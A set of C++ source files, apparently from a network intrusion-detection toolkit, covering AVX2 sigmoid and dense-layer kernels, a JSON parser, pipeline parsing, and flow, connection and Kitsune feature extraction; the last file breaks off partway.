// Cephes expf lifted lane-wise: reduce x = n*ln2 + r with the ln2 split in
// two parts for accuracy, evaluate the degree-5 polynomial for exp(r),
// scale by 2^n through the exponent bits. Inputs are clamped to +-88.37
// (the finite float range), so sigmoid saturates cleanly at 0/1.

inline __m256 exp8(__m256 x) {
  const __m256 log2e = _mm256_set1_ps(1.44269504088896341f);
  const __m256 c1 = _mm256_set1_ps(0.693359375f);
  const __m256 c2 = _mm256_set1_ps(-2.12194440e-4f);
  const __m256 p0 = _mm256_set1_ps(1.9875691500e-4f);
  const __m256 p1 = _mm256_set1_ps(1.3981999507e-3f);
  const __m256 p2 = _mm256_set1_ps(8.3334519073e-3f);
  const __m256 p3 = _mm256_set1_ps(4.1665795894e-2f);
  const __m256 p4 = _mm256_set1_ps(1.6666665459e-1f);
  const __m256 p5 = _mm256_set1_ps(5.0000001201e-1f);
  const __m256 one = _mm256_set1_ps(1.0f);

  x = _mm256_max_ps(_mm256_set1_ps(-88.3762626647949f),
                    _mm256_min_ps(_mm256_set1_ps(88.3762626647949f), x));

  // n = round(x / ln2)
  __m256 n = _mm256_round_ps(_mm256_mul_ps(x, log2e),
                             _MM_FROUND_TO_NEAREST_INT | _MM_FROUND_NO_EXC);
  // r = x - n * ln2 (two-part ln2 keeps r accurate)
  __m256 r = _mm256_fnmadd_ps(n, c1, x);
  r = _mm256_fnmadd_ps(n, c2, r);
  const __m256 r2 = _mm256_mul_ps(r, r);

  __m256 p = p0;
  p = _mm256_fmadd_ps(p, r, p1);
  p = _mm256_fmadd_ps(p, r, p2);
  p = _mm256_fmadd_ps(p, r, p3);
  p = _mm256_fmadd_ps(p, r, p4);
  p = _mm256_fmadd_ps(p, r, p5);
  p = _mm256_fmadd_ps(p, r2, _mm256_add_ps(r, one));

  // * 2^n via the exponent bits
  const __m256i ni = _mm256_cvtps_epi32(n);
  const __m256i pow2 =
      _mm256_slli_epi32(_mm256_add_epi32(ni, _mm256_set1_epi32(127)), 23);
  return _mm256_mul_ps(p, _mm256_castsi256_ps(pow2));
}

inline __m256 sigmoid8(__m256 v) {
  const __m256 one = _mm256_set1_ps(1.0f);
  const __m256 e = exp8(_mm256_sub_ps(_mm256_setzero_ps(), v));
  return _mm256_div_ps(one, _mm256_add_ps(one, e));
}

void sigmoid_sweep_f32_k(size_t n, float* x) {
  size_t i = 0;
  for (; i + 8 <= n; i += 8) {
    _mm256_storeu_ps(x + i, sigmoid8(_mm256_loadu_ps(x + i)));
  }
  for (; i < n; ++i) x[i] = 1.0f / (1.0f + std::exp(-x[i]));
}

// Fused packed-layer kernel, f32: wt is the pre-transposed k x np panel
// with np a multiple of 8. Each 8-column chunk accumulates bias +
// sequential-k FMAs in registers across the whole k loop, so row i's
// result is independent of the batch size m (the packed_apply contract).
void packed_apply_f32_k(size_t m, size_t np, size_t k, const float* x,
                        size_t ldx, const float* wt, const float* bias,
                        float* y, size_t ldy) {
  for (size_t i = 0; i < m; ++i) {
    const float* xi = x + i * ldx;
    float* yi = y + i * ldy;
    size_t j = 0;
    for (; j + 16 <= np; j += 16) {
      __m256 acc0 = _mm256_loadu_ps(bias + j);
      __m256 acc1 = _mm256_loadu_ps(bias + j + 8);
      const float* wp = wt + j;
      for (size_t l = 0; l < k; ++l) {
        const __m256 xv = _mm256_set1_ps(xi[l]);
        acc0 = _mm256_fmadd_ps(xv, _mm256_loadu_ps(wp + l * np), acc0);
        acc1 = _mm256_fmadd_ps(xv, _mm256_loadu_ps(wp + l * np + 8), acc1);
      }
      _mm256_storeu_ps(yi + j, acc0);
      _mm256_storeu_ps(yi + j + 8, acc1);
    }
    for (; j < np; j += 8) {
      __m256 acc = _mm256_loadu_ps(bias + j);
      const float* wp = wt + j;
      for (size_t l = 0; l < k; ++l) {
        acc = _mm256_fmadd_ps(_mm256_set1_ps(xi[l]),
                              _mm256_loadu_ps(wp + l * np), acc);
      }
      _mm256_storeu_ps(yi + j, acc);
    }
  }
}

}  // namespace

const KernelsF32& avx2_kernels_f32_impl() {
  static const KernelsF32 k = {packed_apply_f32_k, sigmoid_sweep_f32_k};
  return k;
}

}  // namespace lumen::ml::compiled

#endif  // LUMEN_DENSE_HAVE_AVX2
