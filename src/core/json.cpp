#include "core/json.h"

#include <cctype>
#include <cmath>
#include <cstdio>

namespace lumen::core {

namespace {

struct Parser {
  std::string_view text;
  size_t pos = 0;

  bool at_end() const { return pos >= text.size(); }
  char peek() const { return text[pos]; }

  void skip_ws() {
    while (!at_end()) {
      const char c = text[pos];
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r') {
        ++pos;
      } else if (c == '#') {  // comment to end of line (template files)
        while (!at_end() && text[pos] != '\n') ++pos;
      } else {
        break;
      }
    }
  }

  Error err(const std::string& what) const {
    size_t line = 1, col = 1;
    for (size_t i = 0; i < pos && i < text.size(); ++i) {
      if (text[i] == '\n') {
        ++line;
        col = 1;
      } else {
        ++col;
      }
    }
    return Error::make("json", what + " at line " + std::to_string(line) +
                                   ", column " + std::to_string(col));
  }

  Result<Json> parse_value() {
    skip_ws();
    if (at_end()) return err("unexpected end of input");
    const char c = peek();
    if (c == '{') return parse_object();
    if (c == '[') return parse_array();
    if (c == '"' || c == '\'') return parse_string();
    if (c == '-' || (c >= '0' && c <= '9')) return parse_number();
    return parse_word();
  }

  Result<Json> parse_word() {
    size_t start = pos;
    while (!at_end() && (std::isalpha(static_cast<unsigned char>(peek())) != 0)) {
      ++pos;
    }
    const std::string_view w = text.substr(start, pos - start);
    if (w == "true" || w == "True") return Json::boolean(true);
    if (w == "false" || w == "False") return Json::boolean(false);
    if (w == "null" || w == "None") return Json::null();
    pos = start;
    return err("unexpected token");
  }

  Result<Json> parse_number() {
    size_t start = pos;
    if (peek() == '-') ++pos;
    while (!at_end() && (std::isdigit(static_cast<unsigned char>(peek())) != 0 ||
                         peek() == '.' || peek() == 'e' || peek() == 'E' ||
                         peek() == '+' || peek() == '-')) {
      ++pos;
    }
    const std::string s(text.substr(start, pos - start));
    char* end = nullptr;
    const double v = std::strtod(s.c_str(), &end);
    if (end == s.c_str()) return err("bad number");
    return Json::number(v);
  }

  Result<Json> parse_string() {
    const char quote = peek();
    ++pos;
    std::string out;
    while (!at_end() && peek() != quote) {
      char c = peek();
      if (c == '\\') {
        ++pos;
        if (at_end()) return err("bad escape");
        const char e = peek();
        switch (e) {
          case 'n': out.push_back('\n'); break;
          case 't': out.push_back('\t'); break;
          case 'r': out.push_back('\r'); break;
          case '\\': out.push_back('\\'); break;
          case '"': out.push_back('"'); break;
          case '\'': out.push_back('\''); break;
          case '/': out.push_back('/'); break;
          default: return err("unsupported escape");
        }
        ++pos;
      } else {
        out.push_back(c);
        ++pos;
      }
    }
    if (at_end()) return err("unterminated string");
    ++pos;  // closing quote
    return Json::string(std::move(out));
  }

  Result<Json> parse_array() {
    ++pos;  // '['
    Json arr = Json::array();
    skip_ws();
    if (!at_end() && peek() == ']') {
      ++pos;
      return arr;
    }
    for (;;) {
      Result<Json> item = parse_value();
      if (!item.ok()) return item;
      arr.push_back(std::move(item).value());
      skip_ws();
      if (at_end()) return err("unterminated array");
      if (peek() == ',') {
        ++pos;
        skip_ws();
        if (!at_end() && peek() == ']') {  // trailing comma
          ++pos;
          return arr;
        }
        continue;
      }
      if (peek() == ']') {
        ++pos;
        return arr;
      }
      return err("expected ',' or ']'");
    }
  }

  Result<Json> parse_object() {
    ++pos;  // '{'
    Json obj = Json::object();
    skip_ws();
    if (!at_end() && peek() == '}') {
      ++pos;
      return obj;
    }
    for (;;) {
      skip_ws();
      if (at_end() || (peek() != '"' && peek() != '\'')) {
        return err("expected string key");
      }
      Result<Json> key = parse_string();
      if (!key.ok()) return key;
      skip_ws();
      if (at_end() || (peek() != ':' && peek() != '=')) return err("expected ':'");
      ++pos;
      Result<Json> value = parse_value();
      if (!value.ok()) return value;
      obj.set(key.value().as_string(), std::move(value).value());
      skip_ws();
      if (at_end()) return err("unterminated object");
      if (peek() == ',') {
        ++pos;
        skip_ws();
        if (!at_end() && peek() == '}') {  // trailing comma
          ++pos;
          return obj;
        }
        continue;
      }
      if (peek() == '}') {
        ++pos;
        return obj;
      }
      return err("expected ',' or '}'");
    }
  }
};

void dump_string(const std::string& s, std::string& out) {
  out.push_back('"');
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      default: out.push_back(c);
    }
  }
  out.push_back('"');
}

}  // namespace

Result<Json> Json::parse(std::string_view text) {
  Parser p{text};
  Result<Json> v = p.parse_value();
  if (!v.ok()) return v;
  p.skip_ws();
  if (!p.at_end()) return p.err("trailing content");
  return v;
}

const Json* Json::get(std::string_view key) const {
  if (!is_object()) return nullptr;
  for (const auto& [k, v] : obj_) {
    if (k == key) return &v;
  }
  return nullptr;
}

std::string Json::get_string(std::string_view key, const std::string& dflt) const {
  const Json* j = get(key);
  return (j != nullptr && j->is_string()) ? j->as_string() : dflt;
}

double Json::get_number(std::string_view key, double dflt) const {
  const Json* j = get(key);
  return (j != nullptr && j->is_number()) ? j->as_number() : dflt;
}

int64_t Json::get_int(std::string_view key, int64_t dflt) const {
  const Json* j = get(key);
  return (j != nullptr && j->is_number()) ? j->as_int() : dflt;
}

bool Json::get_bool(std::string_view key, bool dflt) const {
  const Json* j = get(key);
  return (j != nullptr && j->is_bool()) ? j->as_bool() : dflt;
}

std::vector<std::string> Json::get_string_list(std::string_view key) const {
  std::vector<std::string> out;
  const Json* j = get(key);
  if (j == nullptr) return out;
  if (j->is_string()) {
    out.push_back(j->as_string());
    return out;
  }
  if (j->is_array()) {
    for (const Json& item : j->items()) {
      if (item.is_string()) out.push_back(item.as_string());
    }
  }
  return out;
}

std::vector<double> Json::get_number_list(std::string_view key) const {
  std::vector<double> out;
  const Json* j = get(key);
  if (j == nullptr || !j->is_array()) return out;
  for (const Json& item : j->items()) {
    if (item.is_number()) out.push_back(item.as_number());
  }
  return out;
}

void Json::set(std::string key, Json value) {
  type_ = Type::kObject;
  for (auto& [k, v] : obj_) {
    if (k == key) {
      v = std::move(value);
      return;
    }
  }
  obj_.emplace_back(std::move(key), std::move(value));
}

std::string Json::dump() const {
  std::string out;
  switch (type_) {
    case Type::kNull: out = "null"; break;
    case Type::kBool: out = bool_ ? "true" : "false"; break;
    case Type::kNumber: {
      char buf[32];
      if (!std::isfinite(num_)) {
        // JSON has no Inf/NaN literal; serialize as null (standard practice).
        out = "null";
        break;
      }
      if (num_ == std::floor(num_) && std::fabs(num_) < 1e15) {
        std::snprintf(buf, sizeof(buf), "%lld", static_cast<long long>(num_));
      } else {
        std::snprintf(buf, sizeof(buf), "%.10g", num_);
      }
      out = buf;
      break;
    }
    case Type::kString: dump_string(str_, out); break;
    case Type::kArray: {
      out = "[";
      for (size_t i = 0; i < arr_.size(); ++i) {
        if (i != 0) out += ",";
        out += arr_[i].dump();
      }
      out += "]";
      break;
    }
    case Type::kObject: {
      out = "{";
      for (size_t i = 0; i < obj_.size(); ++i) {
        if (i != 0) out += ",";
        dump_string(obj_[i].first, out);
        out += ":";
        out += obj_[i].second.dump();
      }
      out += "}";
      break;
    }
  }
  return out;
}

}  // namespace lumen::core
