// Flow-granularity operations: unidirectional-flow and connection assembly,
// per-flow aggregate features, Zeek/Bayesian/IIoT connection feature sets,
// and the first-k-packets sequence representation (OCSVM family, D-PACK).
#include <set>

#include "core/ops_common.h"

namespace lumen::core {

namespace {

using features::FeatureTable;
using netio::PacketView;

Result<Value> run_uniflows(const OpSpec& spec,
                           const std::vector<const Value*>& in,
                           OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "uniflows");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  const double timeout = spec.params.get_number("timeout", 60.0);
  FlowSet out;
  out.dataset = ps.dataset;
  out.flows = flow::assemble_uniflows(ps.dataset->trace, timeout);
  return Value(std::move(out));
}

Result<Value> run_connections(const OpSpec& spec,
                              const std::vector<const Value*>& in,
                              OpContext& ctx) {
  auto psr = input_as<PacketSet>(in, 0, "connections");
  if (!psr.ok()) return psr.error();
  const PacketSet& ps = *psr.value();
  const double timeout = spec.params.get_number("timeout", 120.0);
  ConnSet out;
  out.dataset = ps.dataset;
  out.conns = flow::assemble_connections(ps.dataset->trace, timeout);
  out.records.reserve(out.conns.size());
  for (const flow::Connection& c : out.conns) {
    out.records.push_back(flow::summarize(c, ps.dataset->trace));
  }
  return Value(std::move(out));
}

// "flow_features": per-unidirectional-flow aggregates (plus flow scalars).
Result<Value> run_flow_features(const OpSpec& spec,
                                const std::vector<const Value*>& in,
                                OpContext& ctx) {
  auto fsr = input_as<FlowSet>(in, 0, "flow_features");
  if (!fsr.ok()) return fsr.error();
  const FlowSet& fs = *fsr.value();
  const std::vector<AggSpec> aggs = parse_agg_list(spec.params);
  std::vector<std::vector<uint32_t>> units;
  units.reserve(fs.flows.size());
  for (const flow::Flow& f : fs.flows) units.push_back(f.pkts);
  FeatureTable t = table_from_units(*fs.dataset, units, aggs);
  for (size_t r = 0; r < fs.flows.size(); ++r) {
    t.unit_id[r] = fs.flows[r].id;
  }
  return Value(std::move(t));
}

void push_dir_stats(const trace::Dataset& ds,
                    const std::vector<uint32_t>& pkts,
                    std::vector<double>& row) {
  features::RunningStats len, iat;
  double prev = -1.0;
  uint32_t flags[6] = {0, 0, 0, 0, 0, 0};
  features::RunningStats ttl, win;
  for (uint32_t p : pkts) {
    const PacketView& v = ds.trace.view[p];
    len.add(v.wire_len);
    if (prev >= 0.0) iat.add(v.ts - prev);
    prev = v.ts;
    flags[0] += v.tcp_flag(netio::kSyn);
    flags[1] += v.tcp_flag(netio::kAck);
    flags[2] += v.tcp_flag(netio::kFin);
    flags[3] += v.tcp_flag(netio::kRst);
    flags[4] += v.tcp_flag(netio::kPsh);
    flags[5] += v.tcp_flag(netio::kUrg);
    ttl.add(v.ttl);
    win.add(v.tcp_window);
  }
  row.push_back(static_cast<double>(len.count()));
  row.push_back(len.sum());
  row.push_back(len.mean());
  row.push_back(len.stddev());
  row.push_back(len.min());
  row.push_back(len.max());
  row.push_back(iat.mean());
  row.push_back(iat.stddev());
  row.push_back(iat.max());
  for (uint32_t f : flags) row.push_back(f);
  row.push_back(ttl.mean());
  row.push_back(win.mean());
}

// "conn_features": connection-level feature sets, composable via
// params["set"] = ["zeek", "bayes", "iiot"].
Result<Value> run_conn_features(const OpSpec& spec,
                                const std::vector<const Value*>& in,
                                OpContext& ctx) {
  auto csr = input_as<ConnSet>(in, 0, "conn_features");
  if (!csr.ok()) return csr.error();
  const ConnSet& cs = *csr.value();
  std::vector<std::string> sets = spec.params.get_string_list("set");
  if (sets.empty()) sets = {"zeek"};
  const std::set<std::string> want(sets.begin(), sets.end());
  for (const std::string& s : sets) {
    if (s != "zeek" && s != "bayes" && s != "iiot") {
      return Error::make("conn_features", "unknown feature set '" + s + "'");
    }
  }

  std::vector<std::string> names;
  if (want.count("zeek") != 0) {
    for (const char* n :
         {"duration", "orig_pkts", "resp_pkts", "orig_bytes", "resp_bytes",
          "proto", "service", "byte_ratio"}) {
      names.push_back(std::string("zeek_") + n);
    }
    for (const char* s : {"S0", "SF", "REJ", "RSTO", "RSTR", "OTH"}) {
      names.push_back(std::string("zeek_state_") + s);
    }
  }
  if (want.count("bayes") != 0) {
    for (const char* dir : {"fwd", "bwd"}) {
      for (const char* n :
           {"pkts", "bytes", "len_mean", "len_std", "len_min", "len_max",
            "iat_mean", "iat_std", "iat_max", "syn", "ack", "fin", "rst",
            "psh", "urg", "ttl_mean", "win_mean"}) {
        names.push_back(std::string("bayes_") + dir + "_" + n);
      }
    }
    for (const char* n : {"duration", "pkt_rate", "byte_rate", "pkt_ratio",
                          "sport", "dport"}) {
      names.push_back(std::string("bayes_") + n);
    }
  }
  if (want.count("iiot") != 0) {
    for (const char* n : {"duration", "len_mean", "bandwidth", "retrans",
                          "jitter", "orig_bw", "resp_bw"}) {
      names.push_back(std::string("iiot_") + n);
    }
  }

  const trace::Dataset& ds = *cs.dataset;
  FeatureTable t = FeatureTable::make(cs.conns.size(), names);
  std::vector<std::vector<uint32_t>> units;
  units.reserve(cs.conns.size());

  for (size_t r = 0; r < cs.conns.size(); ++r) {
    const flow::Connection& c = cs.conns[r];
    const flow::ConnRecord& rec = cs.records[r];
    units.push_back(c.pkts);
    std::vector<double> row;
    row.reserve(names.size());

    if (want.count("zeek") != 0) {
      row.push_back(rec.duration);
      row.push_back(static_cast<double>(rec.orig_pkts));
      row.push_back(static_cast<double>(rec.resp_pkts));
      row.push_back(static_cast<double>(rec.orig_bytes));
      row.push_back(static_cast<double>(rec.resp_bytes));
      row.push_back(rec.proto);
      row.push_back(static_cast<double>(rec.service));
      row.push_back(rec.orig_bytes > 0
                        ? static_cast<double>(rec.resp_bytes) /
                              static_cast<double>(rec.orig_bytes)
                        : 0.0);
      for (int s = 0; s < 6; ++s) {
        row.push_back(rec.state == static_cast<flow::ConnState>(s) ? 1.0 : 0.0);
      }
    }
    if (want.count("bayes") != 0) {
      std::vector<uint32_t> fwd, bwd;
      for (size_t i = 0; i < c.pkts.size(); ++i) {
        (c.dir[i] == 0 ? fwd : bwd).push_back(c.pkts[i]);
      }
      push_dir_stats(ds, fwd, row);
      push_dir_stats(ds, bwd, row);
      const double dur = c.duration();
      row.push_back(dur);
      row.push_back(dur > 1e-9 ? static_cast<double>(c.pkts.size()) / dur : 0.0);
      row.push_back(dur > 1e-9 ? static_cast<double>(c.orig_bytes + c.resp_bytes) / dur : 0.0);
      row.push_back(c.resp_pkts > 0 ? static_cast<double>(c.orig_pkts) /
                                          static_cast<double>(c.resp_pkts)
                                    : static_cast<double>(c.orig_pkts));
      row.push_back(c.orig_key.src_port);
      row.push_back(c.orig_key.dst_port);
    }
    if (want.count("iiot") != 0) {
      features::RunningStats len, iat;
      double prev = -1.0;
      for (uint32_t p : c.pkts) {
        const PacketView& v = ds.trace.view[p];
        len.add(v.wire_len);
        if (prev >= 0.0) iat.add(v.ts - prev);
        prev = v.ts;
      }
      const double dur = c.duration();
      row.push_back(dur);
      row.push_back(len.mean());
      row.push_back(dur > 1e-9 ? len.sum() / dur : 0.0);
      row.push_back(rec.retransmissions);
      row.push_back(iat.stddev());
      row.push_back(dur > 1e-9 ? static_cast<double>(c.orig_bytes) / dur : 0.0);
      row.push_back(dur > 1e-9 ? static_cast<double>(c.resp_bytes) / dur : 0.0);
    }
    for (size_t col = 0; col < row.size(); ++col) t.at(r, col) = row[col];
  }
  fill_unit_metadata(ds, units, t);
  for (size_t r = 0; r < cs.conns.size(); ++r) t.unit_id[r] = cs.conns[r].id;
  return Value(std::move(t));
}

// "first_k_packets": fixed-length size/IAT sequences (zero padded).
Result<Value> run_first_k(const OpSpec& spec,
                          const std::vector<const Value*>& in,
                          OpContext& ctx) {
  const size_t k = static_cast<size_t>(spec.params.get_int("k", 20));
  std::vector<std::string> what = spec.params.get_string_list("what");
  if (what.empty()) what = {"len", "iat"};

  const trace::Dataset* ds = nullptr;
  std::vector<std::vector<uint32_t>> units;
  std::vector<int64_t> ids;
  if (const auto* cs = std::get_if<ConnSet>(in[0])) {
    ds = cs->dataset;
    for (const auto& c : cs->conns) {
      units.push_back(c.pkts);
      ids.push_back(c.id);
    }
  } else if (const auto* fs = std::get_if<FlowSet>(in[0])) {
    ds = fs->dataset;
    for (const auto& f : fs->flows) {
      units.push_back(f.pkts);
      ids.push_back(f.id);
    }
  } else {
    return Error::make("first_k_packets", "input must be flows or connections");
  }

  std::vector<std::string> names;
  for (const std::string& w : what) {
    for (size_t i = 0; i < k; ++i) {
      names.push_back(w + "_" + std::to_string(i));
    }
  }
  FeatureTable t = FeatureTable::make(units.size(), names);
  for (size_t r = 0; r < units.size(); ++r) {
    const std::vector<uint32_t>& pkts = units[r];
    size_t col = 0;
    for (const std::string& w : what) {
      for (size_t i = 0; i < k; ++i, ++col) {
        if (i >= pkts.size()) continue;  // zero padding
        const PacketView& v = ds->trace.view[pkts[i]];
        if (w == "len") {
          t.at(r, col) = v.wire_len;
        } else if (w == "iat") {
          t.at(r, col) =
              i > 0 ? v.ts - ds->trace.view[pkts[i - 1]].ts : 0.0;
        }
      }
    }
  }
  fill_unit_metadata(*ds, units, t);
  for (size_t r = 0; r < ids.size(); ++r) t.unit_id[r] = ids[r];
  return Value(std::move(t));
}

}  // namespace

void register_flow_ops() {
  register_simple("uniflows", {ValueKind::kPacketSet}, ValueKind::kFlowSet,
                  run_uniflows);
  register_simple("connections", {ValueKind::kPacketSet}, ValueKind::kConnSet,
                  run_connections);
  register_simple("flow_features", {ValueKind::kFlowSet},
                  ValueKind::kFeatureTable, run_flow_features);
  register_simple("conn_features", {ValueKind::kConnSet},
                  ValueKind::kFeatureTable, run_conn_features);
  register_simple("first_k_packets", {ValueKind::kAny},
                  ValueKind::kFeatureTable, run_first_k);
}

}  // namespace lumen::core
