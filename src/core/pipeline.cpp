#include "core/pipeline.h"

#include <algorithm>
#include <cctype>

namespace lumen::core {

std::string canonical_func_name(const std::string& name) {
  // Lowercase and collapse spaces/dashes to underscores.
  std::string out;
  out.reserve(name.size());
  for (char c : name) {
    if (c == ' ' || c == '-') {
      out.push_back('_');
    } else {
      out.push_back(static_cast<char>(std::tolower(static_cast<unsigned char>(c))));
    }
  }
  // Paper-style aliases.
  if (out == "fieldextract") return "field_extract";
  if (out == "timeslice") return "time_slice";
  if (out == "applyaggregates") return "apply_aggregates";
  if (out == "groupby") return "groupby";
  return out;
}

Result<PipelineSpec> PipelineSpec::from_json(const Json& array) {
  if (!array.is_array()) {
    return Error::make("pipeline", "template must be an array of operations");
  }
  PipelineSpec spec;
  for (size_t i = 0; i < array.items().size(); ++i) {
    const Json& entry = array.items()[i];
    if (!entry.is_object()) {
      return Error::make("pipeline",
                         "entry #" + std::to_string(i) + " is not an object");
    }
    OpSpec op;
    op.func = canonical_func_name(entry.get_string("func"));
    if (op.func.empty()) {
      return Error::make("pipeline",
                         "entry #" + std::to_string(i) + " missing 'func'");
    }
    const Json* input = entry.get("input");
    if (input != nullptr && !input->is_null()) {
      if (input->is_string()) {
        op.inputs.push_back(input->as_string());
      } else if (input->is_array()) {
        for (const Json& item : input->items()) {
          if (!item.is_string()) {
            return Error::make("pipeline", "inputs must be binding names");
          }
          op.inputs.push_back(item.as_string());
        }
      } else {
        return Error::make("pipeline", "'input' must be null/string/array");
      }
    }
    op.output = entry.get_string("output");
    if (op.output.empty()) {
      op.output = "_anon" + std::to_string(i);
    }
    op.params = entry;
    spec.ops.push_back(std::move(op));
  }
  if (spec.ops.empty()) {
    return Error::make("pipeline", "template has no operations");
  }
  return spec;
}

Result<PipelineSpec> PipelineSpec::parse(std::string_view text) {
  // Tolerate the "algorithm = [...]" prefix from the paper's example.
  size_t start = 0;
  while (start < text.size() &&
         std::isspace(static_cast<unsigned char>(text[start])) != 0) {
    ++start;
  }
  if (text.substr(start).rfind("algorithm", 0) == 0) {
    const size_t eq = text.find('=', start);
    if (eq != std::string_view::npos) start = eq + 1;
  }
  Result<Json> parsed = Json::parse(text.substr(start));
  if (!parsed.ok()) return parsed.error();
  return from_json(parsed.value());
}

}  // namespace lumen::core
