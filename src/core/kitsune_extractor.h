// Streaming Kitsune feature extraction: incremental damped statistics over
// the srcMAC / srcIP / channel / socket contexts at several decay rates,
// computable one packet at a time. Both the batch "damped_stats" operation
// and the online detector (core/stream.h) are built on this class, so batch
// and streaming features are identical by construction.
//
// This is the gateway's per-packet hot path, so it is allocation-free in
// steady state: contexts are identified by packed numeric keys (MAC 48-bit,
// src-IP 32-bit, canonical IP pair, IP pair + canonical ports) probed in
// open-addressing FlatMaps, and every decay level's state for one context
// lives in a single contiguous block, so a packet costs at most four map
// probes and zero heap allocations. The retired string-keyed implementation
// is preserved in kitsune_extractor_ref.h as the bit-exactness reference
// (tests/extractor_golden_test.cpp).
//
// Long-running gateways can bound memory with `max_contexts`: when any one
// context table exceeds the cap, the lowest decayed-weight contexts (weight
// of the slowest-decaying lambda, decayed to the current packet time) are
// evicted until the table is back at 3/4 of the cap.
#pragma once

#include <algorithm>
#include <cstdint>
#include <string>
#include <vector>

#include "common/flat_map.h"
#include "features/stats.h"
#include "netio/packet.h"

namespace lumen::core {

class KitsuneExtractor {
 public:
  /// Default lambdas are Kitsune's {5, 3, 1, 0.1, 0.01}. `max_contexts`
  /// bounds each context table (0 = unbounded; see class comment).
  explicit KitsuneExtractor(std::vector<double> lambdas = {},
                            size_t max_contexts = 0);

  /// 23 features per lambda.
  size_t dim() const { return 23 * lambdas_.size(); }
  const std::vector<std::string>& feature_names() const { return names_; }
  const std::vector<double>& lambdas() const { return lambdas_; }

  /// Update all context statistics with one packet (in capture order) and
  /// write its feature vector into `out` (resized to dim() once; the caller
  /// should reuse the same vector across packets).
  void process(const netio::PacketView& v, std::vector<double>& out);

  /// Number of distinct (lambda, context, key) statistics currently
  /// tracked. With an eviction cap C this is bounded by 5 * C * lambdas().
  size_t tracked_contexts() const;

  /// Distinct keys per context table (diagnostics / benchmarks).
  struct ContextCounts {
    size_t mac = 0, src = 0, chan = 0, sock = 0;
  };
  ContextCounts context_counts() const;

  size_t max_contexts() const { return max_contexts_; }

  void reset();

 private:
  // All per-lambda state of one channel: both directions' joint statistic,
  // the inter-arrival jitter statistic, and the last time the channel was
  // seen (per lambda, mirroring the reference implementation's layout).
  struct ChanState {
    features::DampedStat2D chan;
    features::DampedStat jitter;
    double last_seen = 0.0;
    bool has_last = false;
  };

  // One context table: a FlatMap from packed key to a slot in a contiguous
  // arena holding `stride` (= lambda count) State entries per context.
  template <typename Key, typename State>
  class ContextTable {
   public:
    void configure(size_t stride) { stride_ = stride; }
    size_t size() const { return index_.size(); }

    void clear() {
      index_.clear();
      arena_.clear();
    }

    /// The stride-long state block for `key`, created with make(level) per
    /// decay level on first sight. The pointer stays valid until the next
    /// find_or_create / evict / clear on this table.
    template <typename Make>
    State* find_or_create(const Key& key, const Make& make) {
      auto [slot, inserted] = index_.try_emplace(key, uint32_t{0});
      if (inserted) {
        *slot = static_cast<uint32_t>(arena_.size() / stride_);
        for (size_t i = 0; i < stride_; ++i) arena_.push_back(make(i));
      }
      return arena_.data() + size_t{*slot} * stride_;
    }

    /// Keep the `keep` highest-scoring contexts (score(block) over each
    /// context's state block); rebuild the index and compact the arena.
    template <typename ScoreFn>
    void evict(size_t keep, const ScoreFn& score) {
      if (index_.size() <= keep) return;
      struct Entry {
        Key key;
        uint32_t slot;
        double score;
      };
      std::vector<Entry> all;
      all.reserve(index_.size());
      index_.for_each([&](const Key& k, const uint32_t& s) {
        all.push_back({k, s, score(arena_.data() + size_t{s} * stride_)});
      });
      std::nth_element(all.begin(),
                       all.begin() + static_cast<std::ptrdiff_t>(keep),
                       all.end(),
                       [](const Entry& a, const Entry& b) {
                         return a.score > b.score;
                       });
      all.resize(keep);
      std::vector<State> arena;
      arena.reserve(keep * stride_);
      FlatMap<Key, uint32_t> index;
      index.reserve(keep);
      for (size_t i = 0; i < all.size(); ++i) {
        index.try_emplace(all[i].key, static_cast<uint32_t>(i));
        State* block = arena_.data() + size_t{all[i].slot} * stride_;
        for (size_t j = 0; j < stride_; ++j) {
          arena.push_back(std::move(block[j]));
        }
      }
      arena_ = std::move(arena);
      index_ = std::move(index);
    }

   private:
    FlatMap<Key, uint32_t> index_;
    std::vector<State> arena_;
    size_t stride_ = 1;
  };

  void maybe_evict(double now);

  std::vector<double> lambdas_;
  std::vector<std::string> names_;
  size_t max_contexts_ = 0;
  size_t slow_ = 0;  // index of the slowest-decaying (smallest) lambda
  ContextTable<uint64_t, features::DampedStat> mac_;
  ContextTable<uint64_t, features::DampedStat> src_;
  ContextTable<uint64_t, ChanState> chan_;
  ContextTable<Key128, features::DampedStat2D> sock_;
};

}  // namespace lumen::core
