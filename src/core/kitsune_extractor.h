// Streaming Kitsune feature extraction: incremental damped statistics over
// the srcMAC / srcIP / channel / socket contexts at several decay rates,
// computable one packet at a time. Both the batch "damped_stats" operation
// and the online detector (core/stream.h) are built on this class, so batch
// and streaming features are identical by construction.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "features/stats.h"
#include "netio/packet.h"

namespace lumen::core {

class KitsuneExtractor {
 public:
  /// Default lambdas are Kitsune's {5, 3, 1, 0.1, 0.01}.
  explicit KitsuneExtractor(std::vector<double> lambdas = {});

  /// 23 features per lambda.
  size_t dim() const { return 23 * lambdas_.size(); }
  const std::vector<std::string>& feature_names() const { return names_; }
  const std::vector<double>& lambdas() const { return lambdas_; }

  /// Update all context statistics with one packet (in capture order) and
  /// write its feature vector into `out` (resized to dim()).
  void process(const netio::PacketView& v, std::vector<double>& out);

  /// Number of distinct (context, key) statistics currently tracked.
  size_t tracked_contexts() const;

  void reset();

 private:
  struct LambdaState {
    std::map<std::string, features::DampedStat> mac, src;
    std::map<std::string, features::DampedStat2D> chan, sock;
    std::map<std::string, features::DampedStat> jitter;  // per channel
    std::map<std::string, double> last_seen;              // per channel
  };

  std::vector<double> lambdas_;
  std::vector<std::string> names_;
  std::vector<LambdaState> state_;
};

}  // namespace lumen::core
