#include "core/ops_common.h"

#include <algorithm>
#include <cmath>
#include <map>
#include <set>

namespace lumen::core {

std::vector<AggSpec> parse_agg_list(const Json& params) {
  std::vector<AggSpec> out;
  const Json* list = params.get("list");
  if (list != nullptr && list->is_array()) {
    for (const Json& item : list->items()) {
      if (!item.is_object()) continue;
      const std::string field = item.get_string("field");
      const Json* funcs = item.get("funcs");
      if (funcs != nullptr && funcs->is_array()) {
        for (const Json& f : funcs->items()) {
          if (f.is_string()) out.push_back(AggSpec{field, f.as_string()});
        }
      } else {
        const std::string func = item.get_string("func");
